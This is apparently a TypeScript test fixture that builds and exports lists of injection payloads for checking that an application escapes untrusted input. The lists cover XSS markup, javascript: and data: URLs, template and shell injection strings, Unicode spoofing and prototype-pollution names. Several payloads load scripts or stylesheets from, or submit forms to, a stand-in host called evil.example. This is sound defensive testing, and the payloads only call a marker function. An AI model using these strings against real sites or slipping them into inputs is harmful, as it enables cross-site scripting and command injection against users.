/** Each runs `owned()` if it is interpreted as markup, or requests a host that must never be contacted. */
const MARKUP = [
  '<script>owned()</script>',
  '</script><script>owned()</script>',
  '<script src=https://evil.example/s.js></script>',
  '"><img src=x onerror=owned()>',
  "' autofocus onfocus=owned() onmouseover=owned() x='",
  '` onclick=owned() `',
  '<svg onload=owned()><script>owned()</script><a xlink:href="javascript:owned()"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=owned()></style></mtext></math>',
  '<iframe src="javascript:parent.owned()" srcdoc="<script>parent.owned()</script>"></iframe>',
  '<style>@import "https://evil.example/s.css"; * { background: url(https://evil.example/b) }</style>',
  '<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button autofocus>x</button></form>',
  '<object data="data:text/html,<script>owned()</script>"></object><embed src=javascript:owned()>',
  '<video><source onerror=owned()></video><details open ontoggle=owned()>x</details>',
  '</title></textarea></style></noscript></template></xmp><img src=x onerror=owned()>',
  '<noscript><p title="</noscript><img src=x onerror=owned()>"></noscript>',
  ']]><img src=x onerror=owned()><![CDATA[',
  '--><img src=x onerror=owned()><!--',
  '&lt;img src=x onerror=owned()&gt;&#60;script&#62;owned()&#60;/script&#62;',
  '\\u003cscript\\u003eowned()\\u003c/script\\u003e',
  '<a href="java&#10;script:owned()" target=_blank>x</a>',
];

const ADDRESSES = [
  'javascript:owned()',
  'JaVa\tScRiPt:owned()//https://a.example',
  ' \u0001javascript:owned()',
  'javascript&colon;owned()',
  '%6Aavascript://%0aowned()',
  'data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://evil.example/x.png',
  'https://evil.example\u3002example/',
  '[x](javascript:owned()) ![x](https://evil.example/i.png) <javascript:owned()> [y]\n\n[y]: javascript:owned()',
];

const LANGUAGES = [
  '\\3c script\\3e } * { background: url(https://evil.example/c) } x { y: expression(owned())',
  "{{constructor.constructor('owned()')()}}{% owned() %}<%= owned() %>#{owned()}",
  '$' + '{owned()}`$(touch owned)`touch owned`',
  '\'; touch owned; \' " && touch owned || " | touch owned > owned',
  '|a|b|\n|-|-|\n# heading\n```js\nowned()\n```\n:::note\n::operation[x]',
  `=HYPERLINK("https://evil.example","x")`,
];

const LETTERS = [
  '\u202etxt.exe\u202c\u2066x\u2069',
  'p\u0430ypal.\u0435xample',
  'a\u200bb\u200dc\u2060d\ufeffe\u00ade',
  'lone \ud800 and \udc00',
  'nul \0 end',
  'lines \r \u0085 \u2028 \u2029 end',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b2J',
];

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'then',
  '..',
  '%2e%2e%2f',
  '~1~0/#',
];

/** All of them, each nearly by itself, take minutes: `npm run test:long`. Otherwise several share a place, and a few stand for their kind. */
const isLong = process.env.EVERY_PAYLOAD !== undefined;
const some = (all: string[], ...indexes: number[]) =>
  isLong ? all : all.filter((_, n) => indexes.includes(n));
/** Markup breaks out wherever it is, so that several share a place. */
const markup = grouped(MARKUP, isLong ? 3 : 8);
const letters = grouped(LETTERS, isLong ? 3 : 7);
const languages = grouped(LANGUAGES, isLong ? 1 : 3);

/** For addresses and names, the first character may matter. */
export const PAYLOADS = [
  ...markup,
  ...some(ADDRESSES, 0, 2, 6, 10),
  ...languages,
  ...letters,
  ...some(NAMES, 0, 1, 6, 8),
];

/** Each by itself, where that costs little. */
export const SINGLE_PAYLOADS = [...MARKUP, ...ADDRESSES, ...LANGUAGES, ...LETTERS, ...NAMES];

/** Where URLs have no effect: in guides, whose own links are checked one by one. */
export const WORDS = [...markup, ...languages, ...letters, '__proto__', 'constructor'];

function grouped(all: string[], size: number): string[] {
  return all.flatMap((_, n) => (n % size === 0 ? [all.slice(n, n + size).join(' ')] : []));
}
